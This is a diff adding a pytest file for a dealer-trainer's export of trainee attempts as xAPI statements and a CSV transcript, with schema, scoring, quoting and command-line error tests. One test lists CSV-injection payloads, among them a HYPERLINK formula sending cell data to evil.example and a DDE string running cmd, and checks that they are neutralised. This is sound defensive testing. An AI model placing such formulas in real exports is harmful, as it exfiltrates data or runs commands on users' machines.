@@ -1,0 +1,262 @@
+"""Hand-off to the employer (issue 14, item 6): a progress file's attempts as xAPI statements,
+checked against the xAPI 1.0.3 data model, and as a CSV transcript that a spreadsheet shows as
+written (quoted, and no cell run as a formula); and `dealer-trainer export-results`."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import json
+import uuid
+from dataclasses import replace
+from datetime import UTC, datetime
+from decimal import Decimal
+
+import pytest
+
+from tests.class_server_support import T0, attempt
+from tests.conftest import run_command
+from tests.xapi_support import problems
+from trainer.progress.handoff import (
+    NAMESPACE,
+    TRANSCRIPT_COLUMNS,
+    file_lines,
+    iso_duration,
+    scaled,
+    statements,
+    transcript_rows,
+    write,
+)
+from trainer.progress.records import Mode
+from trainer.progress.store import Store
+
+CITED = ({"kind": "wrong amount", "severity": "major", "message": "Paid $4", "cite": "§ 577.6",
+          "skill": "payouts", "expected": "$5", "actual": None},
+         {"kind": "wrong call", "severity": "critical", "message": "No call", "cite": "§ 668a.3(i)",
+          "skill": "calls", "expected": None, "actual": None},
+         {"kind": "wrong amount", "severity": "minor", "message": "Paid $9", "cite": "§ 577.6",
+          "skill": "payouts", "expected": "$10", "actual": None})
+
+
+@pytest.fixture
+def progress(tmp_path):
+    """A progress file with a passed, a failed (three findings, two sections), an abandoned, an
+    exam and a drill attempt, of two trainees."""
+    path = tmp_path / "ws.db"
+    with Store.open(path) as store:
+        ana, bo = store.add_trainee("Ana"), store.add_trainee("Bo")
+        store.record_attempt(attempt(ana, 1))  # passed
+        store.record_attempt(attempt(ana, 2, findings=CITED, total=55, passed=False, critical=True,
+                                     duration=65.25))
+        store.record_attempt(attempt(bo, 4, abandoned=True, passed=False, total=0))
+        store.record_attempt(attempt(bo, 5, mode=Mode.EXAM, item_id="pgd-sum-c-pair", game="pai-gow-dice"))
+        store.record_attempt(attempt(bo, 7, mode=Mode.PRACTICE, item_id="drill:high-roll-dice:3",
+                                     game="high-roll-dice", total=100))
+    return path
+
+
+def lines_of(path, trainee=None):
+    with Store.open(path) as store:
+        return file_lines(store, trainee)
+
+
+# --------------------------------------------------------------------------- xAPI
+def test_every_statement_is_an_xapi_statement(progress):
+    found = statements(lines_of(progress))
+    assert len(found) == 5
+    for s in found:
+        assert problems(s) == [], s
+
+
+@pytest.mark.parametrize(("change", "why"), [
+    (lambda s: s["result"]["score"].update(scaled=1.5), "1.5 is greater than the maximum of 1"),
+    (lambda s: s["result"]["score"].update(scaled=-1.01), "less than the minimum of -1"),
+    (lambda s: s["result"]["score"].update(raw=101), "raw 101 is outside [0, 100]"),
+    (lambda s: s["result"]["score"].update(min=100), "min 100 is not below max 100"),
+    (lambda s: s.update(id="not-a-uuid"), "does not match"),
+    (lambda s: s.update(timestamp="2023-11-14T22:13:50"), "does not match"),  # no time zone
+    (lambda s: s.update(timestamp="2023-13-14T22:13:50Z"), "is not a 'date-time'"),
+    (lambda s: s["object"].update(id="props and hops"), "does not match"),
+    (lambda s: s["verb"].update(id="passed"), "does not match"),
+    (lambda s: s["result"].update(duration="30 seconds"), "does not match"),
+    (lambda s: s["result"].update(duration="P"), "does not match"),
+    (lambda s: s["actor"]["account"].pop("homePage"), "'homePage' is a required property"),
+    (lambda s: s["actor"].update(mbox="mailto:ana@example.com"), "is valid under each of"),
+    (lambda s: s["actor"].pop("account"), "is not valid under any of the given schemas"),
+    (lambda s: s.pop("verb"), "'verb' is a required property"),
+    (lambda s: s["context"]["extensions"].update(sections=[]), "does not match"),  # a key not an IRI
+    (lambda s: s["result"].update(success="yes"), "is not of type 'boolean'"),
+])
+def test_the_checker_refuses_what_xapi_does_not_allow(progress, change, why):
+    """The check can fail: each statement is made wrong in one way, and refused for it."""
+    good = statements(lines_of(progress))[0]
+    bad = copy.deepcopy(good)
+    change(bad)
+    found = problems(bad)
+    assert found and any(why in p for p in found), found
+
+
+def test_statement_ids_come_from_the_attempts_uids_so_exporting_again_adds_nothing(progress):
+    lines = lines_of(progress)
+    first, again = statements(lines), statements(lines_of(progress))
+    assert [s["id"] for s in first] == [s["id"] for s in again]
+    assert [s["id"] for s in first] == [str(uuid.uuid5(NAMESPACE, line.attempt.uid)) for line in lines]
+    assert len({s["id"] for s in first}) == len(first)
+    assert {uuid.UUID(s["id"]).version for s in first} == {5}
+
+
+def test_verbs_results_and_scores(progress):
+    by_item = {(s["actor"]["name"], s["object"]["id"].rsplit("/", 1)[-1]): s for s in
+               statements(lines_of(progress))}
+    passed, failed = by_item["Ana", "01"], by_item["Ana", "02"]
+    assert passed["verb"]["id"] == "http://adlnet.gov/expapi/verbs/passed"
+    assert passed["result"]["success"] is True and passed["result"]["completion"] is True
+    assert passed["result"]["score"] == {"scaled": 0.97, "raw": 97, "min": 0, "max": 100}
+    assert failed["verb"]["id"] == "http://adlnet.gov/expapi/verbs/failed"
+    assert failed["result"]["success"] is False
+    assert failed["result"]["score"]["scaled"] == 0.55 and failed["result"]["duration"] == "PT1M5.25S"
+    abandoned = by_item["Bo", "04"]
+    assert abandoned["verb"]["id"] == "http://adlnet.gov/expapi/verbs/terminated"
+    assert abandoned["result"]["completion"] is False
+    assert "score" not in abandoned["result"] and "success" not in abandoned["result"]
+    exam = by_item["Bo", "pgd-sum-c-pair"]
+    assert exam["object"]["definition"]["type"] == "http://adlnet.gov/expapi/activities/assessment"
+    assert exam["object"]["definition"]["name"] == {"en-US": "Sum paytable C: a pair at even money"}
+    assert exam["context"]["contextActivities"]["parent"][0]["definition"]["name"] == {
+        "en-US": "Pai Gow Poker dice wagers"}
+    drill = by_item["Bo", "drill:high-roll-dice:3"]
+    assert drill["object"]["definition"]["name"] == {"en-US": "High Roll Dice practice, difficulty 3"}
+    assert drill["object"]["id"].endswith("/games/high-roll-dice/items/drill:high-roll-dice:3")
+
+
+def test_the_actor_is_the_trainees_account_and_context_names_the_sections_cited(progress):
+    lines = lines_of(progress)
+    found = statements(lines, home_page="https://school.example/")
+    for line, s in zip(lines, found, strict=True):
+        assert s["actor"]["account"] == {"homePage": "https://school.example/", "name": line.trainee.uid}
+        assert s["actor"]["name"] == line.trainee.name
+    failed = next(s for s, line in zip(found, lines, strict=True) if line.attempt.findings)
+    extensions = failed["context"]["extensions"]
+    sections = next(v for k, v in extensions.items() if k.endswith("/regulation-sections"))
+    assert sections == ["§ 577.6", "§ 668a.3(i)"]  # each once, in the findings' order
+
+
+def test_times_are_iso_8601_in_utc():
+    assert iso_duration(0) == "PT0S"
+    assert iso_duration(30) == "PT30S"
+    assert iso_duration(65.25) == "PT1M5.25S"
+    assert iso_duration(3600) == "PT1H"
+    assert iso_duration(3725.5) == "PT1H2M5.50S"
+    assert iso_duration(59.999) == "PT1M"  # to the hundredth, carried
+
+
+def test_scaled_scores_are_exact_hundredths():
+    for total in range(101):
+        assert Decimal(json.dumps(scaled(total))) == Decimal(total) / 100
+
+
+def test_one_trainees_statements(progress):
+    found = statements(lines_of(progress, "bo"))
+    assert {s["actor"]["name"] for s in found} == {"Bo"} and len(found) == 3
+
+
+# --------------------------------------------------------------------------- CSV transcript
+def iso_z(t: float) -> str:
+    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
+
+
+def read_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_the_transcript_has_a_header_and_a_row_per_attempt(progress):
+    out = io.StringIO(newline="")
+    assert write(lines_of(progress), out, "csv") == 5
+    rows = read_csv(out.getvalue())
+    assert rows[0] == list(TRANSCRIPT_COLUMNS)
+    by = {(r[0], r[-1]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
+    failed = next(r for r in by.values() if r["Result"] == "failed")
+    assert failed == {**failed, "Trainee": "Ana", "Game": "Props & Hops", "Mode": "Scenario",
+                      "Score": "55", "Duration (s)": "65.25", "Findings": "3",
+                      "Sections cited": "§ 577.6; § 668a.3(i)", "Date and time (UTC)": iso_z(T0 + 120)}
+    abandoned = next(r for r in by.values() if r["Result"] == "abandoned")
+    assert abandoned["Score"] == ""
+    drill = next(r for r in by.values() if r["Game"] == "High Roll Dice")
+    assert drill["Scenario or drill"] == "High Roll Dice practice, difficulty 3"
+    assert drill["Mode"] == "Practice round"
+    assert {r["Mode"] for r in by.values()} >= {"Exam", "Scenario", "Practice round"}
+
+
+def test_names_with_commas_quotes_and_new_lines_come_back_as_written(progress):
+    line = lines_of(progress)[0]
+    name = 'Ana "the Hand" Ruiz, Jr.\nsecond line; and, more'
+    odd = line._replace(trainee=replace(line.trainee, name=name),
+                        attempt=replace(line.attempt, findings=({**CITED[0], "cite": 'x", "y\r\nz'},)))
+    out = io.StringIO(newline="")
+    write([odd], out, "csv")
+    text = out.getvalue()
+    rows = read_csv(text)
+    assert len(rows) == 2 and rows[1][0] == name and rows[1][9] == 'x", "y\r\nz'
+    assert text.startswith('"Trainee",')  # every cell quoted
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+def test_a_formula_is_written_as_text(progress, name):
+    """OWASP, CSV injection: a cell a spreadsheet would run is prefixed with a single quote."""
+    line = lines_of(progress)[0]
+    odd = line._replace(trainee=replace(line.trainee, name=name))
+    row = list(transcript_rows([odd]))[1]
+    assert row[0] == "'" + name
+    out = io.StringIO(newline="")
+    write([odd], out, "csv")
+    assert read_csv(out.getvalue())[1][0] == "'" + name
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
+
+
+def test_ordinary_text_is_not_prefixed(progress):
+    row = list(transcript_rows(lines_of(progress)[:1]))[1]
+    assert row[0] == "Ana" and not any(c.startswith("'") for c in row)
+
+
+# --------------------------------------------------------------------------- the command
+def test_export_results_writes_xapi_and_csv(progress, tmp_path):
+    out = tmp_path / "statements.json"
+    done = run_command("export-results", str(progress), "--format", "xapi", "--out", str(out),
+                       "--home-page", "https://school.example/")
+    assert done.returncode == 0, done.stderr
+    assert "5 attempts as xAPI statements" in done.stdout
+    found = json.loads(out.read_text(encoding="utf-8"))
+    assert len(found) == 5 and all(problems(s) == [] for s in found)
+    assert found == statements(lines_of(progress), home_page="https://school.example/")
+    assert not list(tmp_path.glob("*.part"))
+    done = run_command("export-results", str(progress), "--format", "csv", "--trainee", "Ana")
+    assert done.returncode == 0, done.stderr
+    rows = read_csv(done.stdout)
+    assert rows[0] == list(TRANSCRIPT_COLUMNS) and {r[0] for r in rows[1:]} == {"Ana"} and len(rows) == 3
+
+
+@pytest.mark.parametrize(("args", "says"), [
+    (["{missing}", "--format", "csv"], "no such progress file"),
+    (["{db}", "--format", "csv", "--trainee", "Zed"], "no trainee is named 'Zed'"),
+    (["{db}", "--format", "pdf"], "invalid choice: 'pdf'"),
+    (["--format", "csv"], "give a progress FILE or --class URL"),
+    (["{db}", "--format", "csv", "--out", "{tmp}/no/such/folder/t.csv"], "cannot be written"),
+    (["{notdb}", "--format", "xapi"], "is damaged"),
+    (["{db}", "--format", "xapi", "--home-page", "school"], "is not a web address"),
+    (["--class", "http://nowhere", "--format", "csv"], "--class"),
+])
+def test_bad_input_is_one_line_and_exit_2(progress, tmp_path, args, says):
+    notdb = tmp_path / "notes.txt"
+    notdb.write_text("not a database\n")
+    out = tmp_path / "kept.csv"
+    out.write_text("what was there\n")
+    fill = {"missing": tmp_path / "none.db", "db": progress, "tmp": tmp_path, "notdb": notdb}
+    done = run_command("export-results", *[a.format(**fill) for a in args], "--out", str(out)) \
+        if "--out" not in args else run_command("export-results", *[a.format(**fill) for a in args])
+    assert done.returncode == 2, done.stdout
+    assert says in done.stderr
+    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
+    assert out.read_text() == "what was there\n"  # nothing written over it
+    assert not list(tmp_path.rglob("*.part"))
